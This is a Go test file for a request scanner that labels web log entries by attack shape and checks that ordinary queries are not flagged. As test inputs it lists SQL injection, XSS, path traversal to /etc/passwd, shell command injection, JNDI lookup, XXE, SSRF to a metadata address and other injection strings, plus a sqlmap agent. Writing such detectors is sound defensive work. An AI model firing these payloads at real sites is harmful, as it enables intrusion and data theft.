package pipeline

import (
	"bufio"
	"strings"
	"testing"
)

func TestScanPayloads(t *testing.T) {
	f := func(path, query, referer string, want Payloads) {
		t.Helper()
		got, slot := ScanPayloads(path, query, referer)
		if got&want != want || want == 0 && got != 0 {
			t.Errorf("%s ? %s (%s): got %v, want %v", path, query, referer, got.Names(nil), want.Names(nil))
		}
		if (got == 0) != (slot == 0) {
			t.Errorf("%s ? %s: slot %d of %v", path, query, slot, got.Names(nil))
		}
	}
	// Attacks.
	f("/x", "id=1%27+or+%271%27%3D%271", "", PayloadTautology)
	f("/x", "id=0+or+1%3D1", "", PayloadTautology)
	f("/x", "id=-1+union+all+select+1,2", "", PayloadUnion)
	f("/x", "id=1/**/union/**/select/**/2", "", PayloadUnion)
	f("/x", "id=1%3Bdrop+table+users--", "", PayloadSQL)
	f("/x", "id=1+and+sleep(5)", "", PayloadSQLCall)
	f("/x", "u=admin%27--", "", PayloadComment)
	f("/x", "q=%2527%2520or%25201%253D1", "", PayloadDouble|PayloadTautology)
	f("/x", "q=%3Cscript%3Ealert(1)", "", PayloadXSS)
	f("/x", "q=%22+onmouseover%3Dalert(1)", "", PayloadXSS)
	f("/x", "f=../../etc/passwd", "", PayloadTraversal|PayloadFile)
	f("/x", "f=%c0%ae%c0%ae/%c0%ae%c0%ae/x", "", PayloadOverlong|PayloadTraversal)
	f("/x", "f=a.php%00.png", "", PayloadNull)
	f("/a/%2e%2e/%2e%2e/etc/passwd", "", "", PayloadTraversal|PayloadFile)
	f("/x", "h=a%3Bcat+/etc/passwd", "", PayloadCommand)
	f("/x", "h=$(id)", "", PayloadCommand)
	f("/x", "q={{7*7}}", "", PayloadTemplate)
	f("/x", "q=${jndi:ldap://x/a}", "", PayloadLookup)
	f("/x", "q=%3C!DOCTYPE+a+%5B%3C!ENTITY+b+SYSTEM+%22c%22%3E%5D%3E", "", PayloadXXE)
	f("/x", "u=http://169.254.169.254/latest/", "", PayloadSSRF)
	f("/x", "u=http://203.0.113.9/x.txt?", "", PayloadRemote)
	f("/x", "user[$ne]=a", "", PayloadNoSQL)
	f("/x", "user%5B%24ne%5D=a", "", PayloadNoSQL)
	f("/x", "u=a%0d%0aSet-Cookie:+b%3Dc", "", PayloadCRLF)
	f("/x", "u=*)(uid%3D*", "", PayloadLDAP)
	f("/x", "c=phpinfo()", "", PayloadCode)
	f("/x", "", "https://x.example/?q=1+union+select+password", 0)
	f("/x", "", "https://x.example/?q=1%27+union+select+password", PayloadUnion)
	// Ordinary text.
	for _, q := range []string{
		"q=red", "page=2&sort=-price", "q=O%27Brien", "q=rock+%26+roll", "q=men%27s+shirts", "q=%22red+shoes%22", "q=C%23", "q=select+comfort+bed", "ids=1,2,3", "t=2026-03-02T00:00:00%2B01:00",
		"next=%2Faccount%3Fa%3Db", "url=https%3A%2F%2Fshop.example%2Fa", "d=%7B%22a%22%3A1%7D", "email=ann%2Bx@mail.example", "q=salt+and+pepper", "q=AC%2FDC", "q=union+jack", "v=1.2.3", "f=a..b", "q=1+or+2", "bbox=13.0,52.3,13.8,52.7", "filter[price][lte]=50", "_=1700000000000", "state=eyJhIjoiYiJ9.abc-_",
	} {
		f("/x", q, "", 0)
	}
	for _, p := range []string{"/", "/a/b.html", "/item/7", "/a%20b/c", "/~ann/", "/a;v=1/b", "/@ann/post", "/wiki/C++", "/wiki/Foo_(bar)", "/a,b", "/caf%C3%A9"} {
		f(p, "", "", 0)
	}
}

// TestPayloadSlot: the slot is the strongest shape's.
func TestPayloadSlot(t *testing.T) {
	_, a := ScanPayloads("/x", "id=1%27+or+1%3D1--&q=2", "")
	_, b := ScanPayloads("/x", "q=2%27(&id=1%27+or+1%3D1--", "")
	_, c := ScanPayloads("/x", "q=1%27+or+1%3D1--", "")
	if a != b || a == c || a != Hash64("id") {
		t.Errorf("slots %d %d %d", a, b, c)
	}
	if _, p := ScanPayloads("/x/1%27or%201=1--", "", ""); p != PathSlot {
		t.Errorf("slot %d of a path, want %d", p, PathSlot)
	}
}

func TestPayloadNames(t *testing.T) {
	if n := len(PayloadAll.Names(nil)); n != len(payloadNames) || 1<<n != int(payloadEnd) {
		t.Errorf("%d names of %d shapes", n, len(payloadNames))
	}
}

func TestResolverPayloads(t *testing.T) {
	r := &Resolver{}
	req := Request{Path: "/a", Query: "id=1%27+or+1%3D1--", Agent: "sqlmap/1.7"}
	r.reduce(&req)
	if req.Query != "id=*" || req.Payloads&(PayloadTautology|PayloadAgent) != PayloadTautology|PayloadAgent || req.Slot != Hash64("id") {
		t.Errorf("got %q %v %d", req.Query, req.Payloads.Names(nil), req.Slot)
	}
	req = Request{Path: "/a", Agent: "sqlmap/1.7"}
	r.reduce(&req)
	if req.Payloads != PayloadAgent || req.Slot != AgentSlot {
		t.Errorf("got %v %d", req.Payloads.Names(nil), req.Slot)
	}
	req = Request{Path: "/a", Agent: "Mozilla/5.0 (X11; Linux x86_64) it's"}
	r.reduce(&req)
	if req.Payloads != 0 || req.Slot != 0 {
		t.Errorf("got %v %d of an ordinary request", req.Payloads.Names(nil), req.Slot)
	}
}

// TestPayloadsOfLogs: how many requests of real and recorded logs show a shape;
// those within the bound were looked at: a spammer's report, and a broken script's
// "${WEBLOC}/view.php".
func TestPayloadsOfLogs(t *testing.T) {
	f := func(bound int, skip string, path ...string) {
		t.Helper()
		lines := bufio.NewScanner(openData(t, path...))
		n, strong, weak := 0, 0, 0
		for lines.Scan() {
			parts := strings.Split(lines.Text(), "\"")
			if len(parts) < 4 || skip != "" && strings.HasPrefix(lines.Text(), skip) {
				continue
			}
			words := strings.Fields(parts[1])
			if len(words) != 3 {
				continue
			}
			n++
			p, query, _ := strings.Cut(words[1], "?")
			referer := strings.TrimPrefix(parts[3], "-")
			switch got, _ := ScanPayloads(p, query, referer); {
			case got&^PayloadWeak != 0:
				strong++
				t.Logf("%v: %.160s (%.120s)", got.Names(nil), words[1], referer)
			case got != 0:
				weak++
			}
		}
		t.Logf("%s: %d requests, %d with a strong shape, %d with a weak one only", path[0], n, strong, weak)
		if n < 1000 || strong > bound {
			t.Errorf("%s: %d of %d requests, want at most %d", path[0], strong, n, bound)
		}
	}
	f(6, "", "baseline_access_logs", "apache_logs.gz")
	f(0, "203.0.113.108", "tools_shop", "access.log.gz")
	f(0, "", "web_bot_sessions", "split_dev", "access.log.gz")
}

func TestScanPayloadsAllocates(t *testing.T) {
	if n := testing.AllocsPerRun(100, func() {
		ScanPayloads("/a/../../etc/passwd", "q=1%2527+or+sleep(5)--&x=%3Cscript%3E&h=%3Bcat+/etc/passwd&u=HTTP://X", "https://x.example/?q=%27")
	}); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzScanPayloads(f *testing.F) {
	f.Add("/a", "id=1%27+or+1%3D1--", "")
	f.Add("/%c0%ae/..%5c", "a[$ne]=%u0027&b=%", "https://x/?%")
	f.Add("/`id`", "q=;|&$(`'\"<>{{}}#/**/", "%0d%0aset-cookie:")
	f.Fuzz(func(t *testing.T, path, query, referer string) {
		p, slot := ScanPayloads(path, query, referer)
		if p&^PayloadAll != 0 || (p == 0) != (slot == 0) {
			t.Errorf("%x in slot %d", p, slot)
		}
		if again, same := ScanPayloads(path, query, referer); again != p || same != slot {
			t.Errorf("%x, then %x", p, again)
		}
	})
}

func BenchmarkScanPayloads(b *testing.B) {
	for _, c := range []struct{ name, path, query, referer string }{
		{"plain", "/api/v1/products/steel-bottle-776", "page=2&sort=price", "https://shop.example/category/clock"},
		{"search", "/search", "q=red+shoes&size=42", "https://shop.example/search"},
		{"apostrophe", "/search", "q=O%27Brien", ""},
		{"attack", "/search", "q=1%27+union+all+select+null,null--+", ""},
	} {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				ScanPayloads(c.path, c.query, c.referer)
			}
		})
	}
}
